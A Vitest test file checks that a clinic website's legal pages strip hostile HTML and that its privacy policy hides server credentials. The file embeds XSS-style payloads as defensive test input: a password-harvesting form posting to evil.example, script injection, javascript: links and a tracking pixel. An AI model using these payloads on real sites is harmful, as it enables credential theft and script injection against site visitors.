import { expect, onTestFinished, test } from 'vitest'
import { seed } from '#app/domain/clinic/seed.ts'
import { findDocument } from '#app/domain/website/documents/documents.server.ts'
import { createMessageChannels } from '#app/platform/message-channels.server.ts'
import { attacks } from '#tests/attack-corpus.ts'
import { rowOf, setColumns } from '#tests/rows.ts'
import { safeTag } from '#tests/safe-tag.ts'
import { describeSite } from '#tests/site-on-each-database.ts'
import { signedInAdmin } from '#tests/staff.ts'
import { website } from '#tests/website.ts'

const hostile = [
  '<h2>New rules</h2><form action="https://evil.example/"><input name="password"></form>',
  '<style>*{display:none}</style><script>alert(1)</script><iframe src="/"></iframe>',
  '<p onclick="alert(1)" style="position:fixed">Call {name} on ',
  '<a href="tel:{emergency_number}">{emergency_number}</a></p>',
  '<a href="javascript:alert(1)">run</a><a href="data:text/html,x">data</a>',
  '<img src="https://evil.example/pixel.png" alt="">',
  // Control characters are refused before a text is looked at.
  ...attacks.filter((attack) => !/[^\P{Cc}\n\t]/u.test(attack)),
].join('')

describeSite('the legal pages', (site) => {
  const { post, ...pages } = website(site)
  const read = async (path: string, Cookie = '') => (await pages.read(path, Cookie)).text
  const save = async (name: 'privacy' | 'terms', Cookie: string, html: string) => {
    const { version } = await findDocument(site().platform, name)
    const content = JSON.stringify({ ...seed[name], html })
    return post(`/admin/website/${name}`, Cookie, { version: String(version), content })
  }

  /** The text of a legal page, without the facts that the program adds around it. */
  const expectSafe = (page: string) => {
    const [, article = ''] = /<article[^>]*>(.*)<\/article>/s.exec(page) ?? []
    const text = article.slice(article.indexOf('</p>') + 4, article.indexOf('<h2>How to reach us'))
    expect(text).toContain('New rules')
    expect(text).toContain(`Call ${seed.facts.name} on <a href="tel:112"`)
    for (const [found] of text.matchAll(/<[^>]*>?/g)) expect(found).toMatch(safeTag)
    expect(text).not.toContain('<img')
  }

  test.each(['privacy', 'terms'] as const)(
    'a hostile %s brings nothing but formatted text to the preview and to its page',
    async (name) => {
      const { cookie } = await signedInAdmin(site(), 'Editor', { role: 'editor', branch: null })
      const content = JSON.stringify({ ...seed[name], html: hostile })
      const preview = await post(`/admin/website/${name}/preview`, cookie, { content })
      expectSafe(preview.text)
      expect((await save(name, cookie, hostile)).status).toBe(302)
      expectSafe(await read(`/${name}`))
      const { content: stored } = await rowOf(site().platform, 'website_documents', name)
      const { html } = JSON.parse(stored) as { html: string }
      for (const [found] of html.matchAll(/<[^>]*>?/g)) {
        expect(found.replace('{emergency_number}', '112')).toMatch(safeTag)
      }
    },
  )

  test.each(['privacy', 'terms'] as const)(
    'a %s that was written into the database by hand is sanitised when it is read',
    async (name) => {
      const { cookie } = await signedInAdmin(site())
      await save(name, cookie, '<p>Before</p>')
      await setColumns(site().platform, 'website_documents', name, {
        content: JSON.stringify({ ...seed[name], html: hostile }),
      })
      site().platform.content.notify()
      expectSafe(await read(`/${name}`))
      expect(await read(`/admin/website/${name}`, cookie)).not.toContain('evil.example')
    },
  )

  test('the privacy policy names the company that sends SMS, once there is one', async () => {
    const inWords = async () => read('/privacy')
    expect(await inWords()).not.toContain('send SMS through')
    const { platform } = site()
    const { messages } = platform
    onTestFinished(() => {
      platform.messages = messages
      platform.content.notify()
    })
    for (const [gateway, name] of [
      ['hubtel', 'Hubtel'],
      ['http', 'our SMS provider'],
    ] as const) {
      const sms = { gateway, url: 'https://sms.example', user: '', key: '', sender: 'GEMEV' }
      platform.messages = createMessageChannels({ mail: platform.mail, secret: 'x' }, { sms })
      platform.content.notify()
      expect(await inWords()).toContain(`We send SMS through ${name}, which`)
    }
  })

  test('the privacy policy says how the site is set up, and names no server', async () => {
    const { platform } = site()
    const { settings } = platform
    onTestFinished(() => {
      platform.settings = settings
      platform.content.notify()
    })
    const readWith = async (changes: Partial<typeof settings>) => {
      platform.settings = { ...settings, ...changes }
      platform.content.notify()
      return read('/privacy')
    }
    const usual = await readWith({ auditRetentionMonths: 40, nightlyBackup: true })
    for (const sentence of [
      `is erased ${settings.retentionMonths} months after it was last changed.`,
      'record for 40 months.',
      'for up to 6 months',
      'sends no safety copy to another company',
      'stored on its own server',
      'This website sends no email.',
    ])
      expect(usual).toContain(sentence)
    const other = await readWith({
      nightlyBackup: true,
      backupCopyCommand: 'rclone copy . https://user:pass@copies.example',
      images: { ...settings.images, host: 'cloudinary' },
      smtp: { url: 'smtps://user:pass@mail.example', from: { name: '', address: 'a@b.gh' } },
    })
    for (const sentence of [
      'Each safety copy is also stored outside this server.',
      'by the company Cloudinary',
      'through one mail server, over an encrypted connection',
    ])
      expect(other).toContain(sentence)
    expect(other).not.toMatch(/copies\.example|mail\.example|user:pass/)
    expect(await readWith({ nightlyBackup: false })).toContain('no safety copies by itself')
  })
})
